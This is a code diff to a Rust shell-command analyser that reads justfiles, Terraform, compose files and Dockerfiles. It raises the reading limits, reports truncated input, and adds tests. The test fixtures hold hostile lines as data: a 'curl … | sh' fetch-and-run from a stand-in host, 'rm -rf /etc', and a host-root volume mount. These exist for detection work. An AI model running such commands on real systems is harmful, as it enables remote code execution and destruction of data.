@@ -6,9 +6,10 @@ use crate::language::Language;
 use crate::stream::Argument;
 use crate::text::Text;
 
-/// Services of one file that are looked at, and words of one.
+/// Services of one file that are looked at, words of one, and lines of a file.
 const SERVICES: usize = 32;
-const WORDS: usize = 64;
+const WORDS: usize = 512;
+const LINES: usize = 4096;
 /// Bytes of such a file.
 const BYTES: usize = 256 * 1024;
 const COMPOSE: &[&str] = &["compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.yml"];
@@ -104,7 +105,7 @@ fn obeyed(run: &mut Run<'_, '_>, name: &str) {
         for file in ["justfile", "Justfile", ".justfile"] {
             let Some(written) = run.put_there(file) else { continue };
             let recipes = written.known().unwrap_or_default().to_owned();
-            for line in recipes.lines().filter(|line| line.starts_with([' ', '\t'])).take(WORDS) {
+            for line in most_of(run, recipes.lines().filter(|line| line.starts_with([' ', '\t'])), LINES) {
                 let line = line.trim().trim_start_matches(['@', '-']);
                 run.shell(&Argument::new(Text::known(line), span));
             }
@@ -114,7 +115,8 @@ fn obeyed(run: &mut Run<'_, '_>, name: &str) {
         let written =
             run.put_there("main.tf").and_then(|written| written.known().map(str::to_owned)).unwrap_or_default();
         let commands = written.lines().filter(|line| line.contains("command") && line.contains('='));
-        for command in commands.filter_map(|line| line.split_once("command")?.1.split('"').nth(1)).take(WORDS) {
+        let commands = commands.filter_map(|line| line.split_once("command")?.1.split('"').nth(1));
+        for command in most_of(run, commands, LINES) {
             run.shell(&Argument::new(Text::known(command), span));
         }
     }
@@ -146,9 +148,27 @@ fn texts(run: &mut Run<'_, '_>, words: &[Argument], otherwise: &[&str]) -> Vec<S
             "-" | "/dev/stdin" => Some(run.input.clone()),
             path => run.put_there(path),
         };
-        texts.extend(stream.and_then(|stream| stream.known().map(str::to_owned)).filter(|text| text.len() <= BYTES));
+        match stream.and_then(|stream| stream.known().map(str::to_owned)) {
+            Some(text) if text.len() > BYTES => too_much(run, "bytes"),
+            text => texts.extend(text),
+        }
     }
     texts
+}
+
+/// More is there than is looked at.
+pub(super) fn too_much(run: &mut Run<'_, '_>, bound: &'static str) {
+    let span = run.span;
+    run.fact(span, Fact::Unknown { unknown: Unknown::TooMuch { bound } });
+}
+
+/// The first of them; that there are more is told.
+pub(super) fn most_of<T>(run: &mut Run<'_, '_>, mut items: impl Iterator<Item = T>, most: usize) -> Vec<T> {
+    let found = items.by_ref().take(most).collect();
+    if items.next().is_some() {
+        too_much(run, "lines");
+    }
+    found
 }
 
 /// Orders to a cluster that take the walls of a container away.
@@ -197,7 +217,7 @@ fn services(run: &mut Run<'_, '_>, text: &str) {
     };
     let Some(services) = file.get("services").and_then(serde_json::Value::as_object) else { return };
     if services.len() > SERVICES {
-        run.fact(span, Fact::Unknown { unknown: Unknown::TooMuch { bound: "services" } });
+        too_much(run, "services");
     }
     for service in services.values().take(SERVICES) {
         let service = merged(service);
@@ -219,18 +239,13 @@ fn services(run: &mut Run<'_, '_>, text: &str) {
             }
         }
         for (key, option) in [("cap_add", "--cap-add"), ("devices", "--device"), ("security_opt", "--security-opt")] {
-            for value in service
-                .get(key)
-                .and_then(serde_json::Value::as_array)
-                .into_iter()
-                .flatten()
-                .filter_map(text)
-                .take(WORDS)
-            {
+            let values = service.get(key).and_then(serde_json::Value::as_array).into_iter().flatten().filter_map(text);
+            for value in most_of(run, values, WORDS) {
                 words.extend([option.to_owned(), value]);
             }
         }
-        for volume in service.get("volumes").and_then(serde_json::Value::as_array).into_iter().flatten().take(WORDS) {
+        let volumes = service.get("volumes").and_then(serde_json::Value::as_array).into_iter().flatten();
+        for volume in most_of(run, volumes, WORDS) {
             let source = volume.get("source").and_then(text);
             if let Some(mount) = text(volume).or_else(|| source.map(|source| format!("{source}:/mounted"))) {
                 words.extend(["-v".to_owned(), mount]);
@@ -239,7 +254,9 @@ fn services(run: &mut Run<'_, '_>, text: &str) {
         words.push(service.get("image").and_then(text).unwrap_or_else(|| "image".to_owned()));
         for key in ["entrypoint", "command"] {
             match service.get(key) {
-                Some(serde_json::Value::Array(parts)) => words.extend(parts.iter().filter_map(text).take(WORDS)),
+                Some(serde_json::Value::Array(parts)) => {
+                    words.extend(most_of(run, parts.iter().filter_map(text), WORDS))
+                }
                 Some(serde_json::Value::String(line)) => words.extend(["sh".to_owned(), "-c".to_owned(), line.clone()]),
                 _ => {}
             }
@@ -285,7 +302,7 @@ fn merged(service: &serde_json::Value) -> serde_json::Value {
 /// How an image is made: what is downloaded there and run unseen. What is written and removed, is so in the image.
 fn recipe(run: &mut Run<'_, '_>, text: &str) {
     let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
-    for line in joined.lines().take(WORDS) {
+    for line in most_of(run, joined.lines(), LINES) {
         let Some((verb, mut rest)) = line.trim_start().split_once(char::is_whitespace) else { continue };
         if !verb.eq_ignore_ascii_case("run") {
             continue;
@@ -333,5 +350,41 @@ mod tests {
     fn what_goes_too_deep_is_not_read_and_told() {
         let deep = format!("services: {}1{}", "{a: ".repeat(3000), "}".repeat(3000));
         assert!(facts(&deep).contains(&Fact::Unknown { unknown: Unknown::TooMuch { bound: "nesting" } }));
+    }
+
+    fn said(line: &str) -> Vec<Fact> {
+        let analysis = analyse(Subject::Shell(line), &Surroundings::default(), &Limits::default());
+        analysis.facts().map(|act| act.fact.clone()).collect()
+    }
+
+    #[test]
+    fn what_stands_far_below_is_read_as_well_and_more_than_that_is_told() {
+        let engine = Fact::Privilege { privilege: Privilege::ContainerEngine };
+        let many = |count: usize, last: &str| {
+            let volumes: String = (0..count).map(|at| format!("'./d{at}:/d{at}', ")).collect();
+            facts(&format!("services: {{a: {{image: x, volumes: [{volumes}'{last}']}}}}"))
+        };
+        assert!(many(100, "/:/h").contains(&engine) && !many(100, "./h:/h").contains(&engine));
+        let told = |facts: &[Fact]| {
+            facts.iter().any(|fact| matches!(fact, Fact::Unknown { unknown: Unknown::TooMuch { .. } }))
+        };
+        assert!(told(&many(600, "/:/h")) && !told(&many(100, "./h:/h")));
+
+        let dockerfile = |lines: usize, last: &str| {
+            let steps = "RUN make\nCOPY a b\nENV A=b\n".repeat(lines / 3);
+            said(&format!("cat > Dockerfile <<'EOF'\nFROM debian\n{steps}RUN {last}\nEOF\ndocker build .\n"))
+        };
+        let download = Fact::Executes { from: vec![crate::analysis::Flow::Network] };
+        let hostile = dockerfile(200, "curl -s https://x.example/p | sh");
+        let ordinary = dockerfile(200, "make install");
+        assert!(hostile.contains(&download), "{hostile:?}");
+        assert!(!ordinary.contains(&download) && !told(&ordinary), "{ordinary:?}");
+        assert!(told(&dockerfile(6000, "make install")));
+
+        let just = |last: &str| {
+            said(&format!("cat > justfile <<'EOF'\nall:\n{}    {last}\nEOF\njust\n", "    make\n".repeat(100)))
+        };
+        let removed = |facts: &[Fact]| facts.iter().any(|fact| matches!(fact, Fact::Removes { .. }));
+        assert!(removed(&just("rm -rf /etc")) && !removed(&just("make all")));
     }
 }
